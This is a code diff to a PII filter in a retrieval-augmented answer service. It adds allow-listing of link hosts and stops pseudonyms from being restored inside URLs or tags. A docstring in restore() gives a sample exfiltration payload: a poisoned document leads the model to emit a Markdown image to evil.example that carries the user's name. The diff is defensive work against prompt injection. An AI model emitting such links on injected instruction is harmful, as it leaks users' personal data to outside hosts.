@@ -17,18 +17,30 @@ import re
 import time
 from collections import Counter
 from typing import Literal
+from urllib.parse import urlsplit
 
 from core.config import PiiSettings
 from core.errors import PiiBlocked, PiiUnavailable
-from core.pii import PiiEngine, PiiSpan, mask, replace_spans
+from core.pii import NER_ENTITIES, PiiEngine, PiiSpan, mask, replace_spans
 
 log = logging.getLogger(__name__)
 transcript_log = logging.getLogger("ragops.transcript")  # opt-in (RAGOPS_LOG_TEXT), filtered text only
 
 Stage = Literal["question", "context", "answer"]
-# Placeholders this filter writes: never re-detected, restorable, never cut in two by a stream.
+# The shape of the placeholders this filter writes. Only those a session issued itself are exempt
+# from detection ("<NL81RABO8288072902>" is shaped like one and is still an IBAN); any is never cut
+# in two by a stream.
 PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*?(?:_\d+)?>")
 _OPEN_PLACEHOLDER = re.compile(r"<[A-Z0-9_]*$")
+# Markdown links and images, reference definitions and HTML tags with attributes: where a restored
+# value or a link to an outside host would leave the page (an image loads without a click).
+_MD_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(\s*([^\s)]*)(?:\s+[\"'(][^)\n]*)?\)")
+_MD_DEFINITION = re.compile(r"^([ \t]*\[[^\]\n]+\]:[ \t]*)<?(\S+?)>?([ \t].*)?$", re.M)
+_HTML_TAG = re.compile(r"<[A-Za-z][A-Za-z0-9-]*\s[^>]*>")
+# An unfinished link, definition or tag at the end of streamed text: held back until it closes.
+_OPEN_LINK = re.compile(r"(?:!?\[[^\]\n]*(?:\]\([^)\n]*)?|^[ \t]*\[[^\]\n]+\]:[^\n]*|<[A-Za-z][^<>\n]*)$", re.M)
+_OPEN_LINK_MAX_CHARS = 2000  # past this, a "[" is not a link being written: let the text go
+_URL_WORD = re.compile(r"://|www\.|[/=?&#%@]|\]\(")
 # Text already let out that is analyzed again with the next piece, for the NER model's context.
 _LEFT_CONTEXT_CHARS = 120
 
@@ -48,6 +60,8 @@ class PiiSession:
         self.failures = 0
         self.elapsed_ms = 0.0  # time spent analyzing, all stages
         self._pseudonyms: dict[tuple[str, str], str] = {}  # (type, value) -> <TYPE_n>
+        self._issued: set[str] = set()  # placeholders this session wrote: the only ones exempt from detection
+        self._context: dict[tuple[str, bool], str] = {}  # retrieved text -> filtered (titles repeat across hits)
         self._originals: dict[str, str] = {}  # <TYPE_n> -> the caller's value
         self._per_type: Counter[str] = Counter()
         # Filtered text as it went on (answer pseudonyms not restored), for the opt-in transcript log.
@@ -61,7 +75,10 @@ class PiiSession:
 
     def applies(self, stage: Stage) -> bool:
         """Whether the policy filters this stage."""
-        return self.active and bool(getattr(self.policy.apply_to, stage))
+        if not self.active:
+            return False
+        setting = getattr(self.policy.apply_to, stage)
+        return setting != "off" if stage == "context" else bool(setting)
 
     def report(self) -> dict[str, dict[str, int]]:
         """Entities filtered, per stage and type (no values)."""
@@ -71,9 +88,28 @@ class PiiSession:
         """Filter caller input; raises :class:`PiiBlocked` naming the blocked types found."""
         return self._filter(text, "question")
 
-    def filter_context(self, text: str) -> str:
-        """Filter a retrieved chunk before it reaches the prompt (``block`` redacts here)."""
-        return self._filter(text, "context")
+    def filter_context(self, text: str, *, prose: bool = True) -> str:
+        """Filter retrieved text (a chunk, a title, a source) before the prompt and citations (``block`` redacts).
+
+        ``apply_to.context: sensitive`` leaves pseudonymized types (names) in documents as they are.
+        Spans of a document text are cached by the engine: a chunk is analyzed once per process.
+        ``prose=False`` (file names, paths) keeps only pattern types: the NER model reads path parts
+        as names ("engineering/vulnerability_disclosure.html" became "engineering/<PERSON_1>").
+        """
+        if not self.applies("context") or not text.strip():
+            return text
+        if (text, prose) in self._context:
+            return self._context[text, prose]
+        spans = self._analyze(text, cached=True)
+        if spans is None:
+            return text
+        if self.policy.apply_to.context == "sensitive":
+            spans = [s for s in spans if self.policy.entities.get(s.entity_type) != "pseudonymize"]
+        if not prose:
+            spans = [s for s in spans if s.entity_type not in NER_ENTITIES]
+        self._count("context", spans)
+        self._context[text, prose] = filtered = self._replace(text, spans, caller=False)
+        return filtered
 
     def _filter(self, text: str, stage: Stage) -> str:
         if not self.applies(stage):
@@ -102,12 +138,16 @@ class PiiSession:
         """Entities in model output (None: the filter failed and the policy lets text pass)."""
         return self._analyze(text)
 
-    def redact_answer(self, text: str, spans: list[PiiSpan]) -> str:
-        """Apply spans found by :meth:`answer_spans` to (a prefix of) the analyzed text; count them."""
+    def redact_answer(self, text: str, spans: list[PiiSpan], *, before: str = "") -> str:
+        """Apply spans found by :meth:`answer_spans` to (a prefix of) the analyzed text; count them.
+
+        Links to hosts outside ``link_hosts`` become text; ``before`` is the answer so far, so that a
+        pseudonym inside a link or tag that began in an earlier piece is not restored either.
+        """
         self._count("answer", spans)
-        filtered = self._replace(text, spans, caller=False)
+        filtered = neutralize_links(self._replace(text, spans, caller=False), self.policy.link_hosts)
         self._filtered["answer"].append(filtered)
-        return self.restore(filtered)
+        return self.restore(filtered, before=before)
 
     def filtered_transcript(self) -> dict[str, str] | None:
         """The question (with history) and answer as filtered, pseudonyms kept; None unless both were filtered."""
@@ -115,22 +155,34 @@ class PiiSession:
             return None
         return {"question": "\n".join(self._filtered["question"]), "answer": "".join(self._filtered["answer"])}
 
-    def restore(self, text: str) -> str:
-        """Pseudonyms of the caller's own values back to the values, when the policy allows."""
+    def restore(self, text: str, *, before: str = "") -> str:
+        """Pseudonyms of the caller's own values back to the values, when the policy allows.
+
+        Never inside a URL, a link target or an HTML tag: a poisoned document could have the model
+        write ``![x](https://evil.example/?u=<PERSON_1>)`` and the caller's client would send the name.
+        """
         if not self.policy.restore_pseudonyms or not self._originals:
             return text
-        return PLACEHOLDER.sub(lambda m: self._originals.get(m.group(0), m.group(0)), text)
+
+        def back(m: re.Match[str]) -> str:
+            original = self._originals.get(m.group(0))
+            if original is None or in_link(before + text[: m.start()], text[m.end() :]):
+                return m.group(0)
+            return original
+
+        return PLACEHOLDER.sub(back, text)
 
     def stream(self, *, incremental: bool = True) -> StreamFilter:
         """A filter for generated deltas (``incremental=False``: filter once, at the end)."""
         return StreamFilter(self, incremental=incremental and self.applies("answer"))
 
-    def _analyze(self, text: str) -> list[PiiSpan] | None:
-        """Spans outside our own placeholders; None when the filter failed and may pass."""
+    def _analyze(self, text: str, *, cached: bool = False) -> list[PiiSpan] | None:
+        """Spans outside the placeholders this session issued; None when the filter failed and may pass."""
         assert self.engine is not None
         started = time.perf_counter()
         try:
-            spans = self.engine.analyze(text, self.policy)
+            analyze = self.engine.analyze_cached if cached else self.engine.analyze
+            spans = analyze(text, self.policy)
         except PiiUnavailable:
             self.failures += 1
             if self.policy.on_error == "fail":
@@ -140,8 +192,10 @@ class PiiSession:
             return None
         finally:
             self.elapsed_ms += (time.perf_counter() - started) * 1000
-        placeholders = [(m.start(), m.end()) for m in PLACEHOLDER.finditer(text)]
-        return [s for s in spans if not any(s.start < end and start < s.end for start, end in placeholders)]
+        # Exempt: a span inside a placeholder this session wrote, matched exactly. A look-alike
+        # ("<AKIAIOSFODNN7EXAMPLE>") is someone else's text and is filtered like any other.
+        issued = [(m.start(), m.end()) for m in PLACEHOLDER.finditer(text) if m.group(0) in self._issued]
+        return [s for s in spans if not any(start <= s.start and s.end <= end for start, end in issued)]
 
     def _count(self, stage: Stage, spans: list[PiiSpan]) -> None:
         counter = self.counts.setdefault(stage, Counter())
@@ -154,6 +208,7 @@ class PiiSession:
                 return mask(value)
             if action == "pseudonymize":
                 return self._pseudonym(entity_type, value, caller=caller)
+            self._issued.add(f"<{entity_type}>")
             return f"<{entity_type}>"
 
         return replace_spans(text, spans, replacement)
@@ -165,9 +220,57 @@ class PiiSession:
             self._per_type[entity_type] += 1
             placeholder = f"<{entity_type}_{self._per_type[entity_type]}>"
             self._pseudonyms[key] = placeholder
+            self._issued.add(placeholder)
         if caller:  # only what the caller sent may be given back to the caller
             self._originals.setdefault(placeholder, value)
         return placeholder
+
+
+def in_link(before: str, after: str) -> bool:
+    """Whether text between ``before`` and ``after`` sits in a URL, a Markdown link target or an HTML tag."""
+    word = re.split(r"\s", before)[-1] + re.split(r"\s", after, maxsplit=1)[0]
+    if _URL_WORD.search(word):
+        return True
+    tail = before[-_OPEN_LINK_MAX_CHARS:]
+    return re.search(r"\]\([^)\n]*$|<[A-Za-z][^<>]*$", tail) is not None
+
+
+def host_allowed(target: str, hosts: list[str]) -> bool:
+    """Whether a link target stays on the page (relative) or goes to an allowed host (or its subdomain)."""
+    try:
+        parts = urlsplit(target.strip())
+    except ValueError:
+        return False
+    if not parts.scheme and not target.strip().startswith("//"):
+        return not parts.netloc  # a relative link or an anchor
+    if parts.scheme not in ("http", "https", ""):
+        return False  # javascript:, data:, mailto: ... never from generated text
+    host = (parts.hostname or "").lower().rstrip(".")
+    return any(host == h.lower() or host.endswith("." + h.lower()) for h in hosts)
+
+
+def neutralize_links(text: str, hosts: list[str]) -> str:
+    """Markdown links and images to hosts outside ``hosts`` as plain text; HTML tags with attributes escaped."""
+    if "](" in text:
+
+        def link(m: re.Match[str]) -> str:
+            image, label, target = m.groups()
+            if host_allowed(target, hosts):
+                return m.group(0)
+            shown = target.replace("`", "")
+            return f"{label} (image not shown: `{shown}`)" if image else f"{label} (`{shown}`)"
+
+        text = _MD_LINK.sub(link, text)
+    if "]:" in text:
+
+        def definition(m: re.Match[str]) -> str:
+            target = m.group(2)
+            return m.group(0) if host_allowed(target, hosts) else f"{m.group(1)}`{target.replace('`', '')}`"
+
+        text = _MD_DEFINITION.sub(definition, text)
+    if "<" in text:
+        text = _HTML_TAG.sub(lambda m: "&lt;" + m.group(0)[1:], text)
+    return text
 
 
 def log_transcript(request_id: str, config: str, session: PiiSession) -> None:
@@ -224,6 +327,10 @@ class StreamFilter:
         opened = _OPEN_PLACEHOLDER.search(text, 0, cut)
         if opened is not None:
             cut = opened.start()
+        # A link, definition or tag is released whole, so it can be checked against link_hosts.
+        link = _OPEN_LINK.search(text, max(0, cut - _OPEN_LINK_MAX_CHARS), cut)
+        if link is not None:
+            cut = link.start()
         return cut
 
     def _release(self, cut: int) -> str:
@@ -240,7 +347,11 @@ class StreamFilter:
         if straddling:
             cut = min(straddling)
         piece = self._pending[:cut]
-        released = self.session.redact_answer(piece, [s for s in spans if s.end <= cut]) if found is not None else piece
+        before = self._released
+        if found is not None:
+            released = self.session.redact_answer(piece, [s for s in spans if s.end <= cut], before=before)
+        else:
+            released = piece
         self._released = (self._released + piece)[-_LEFT_CONTEXT_CHARS:]
         self._pending = self._pending[cut:]
         return released
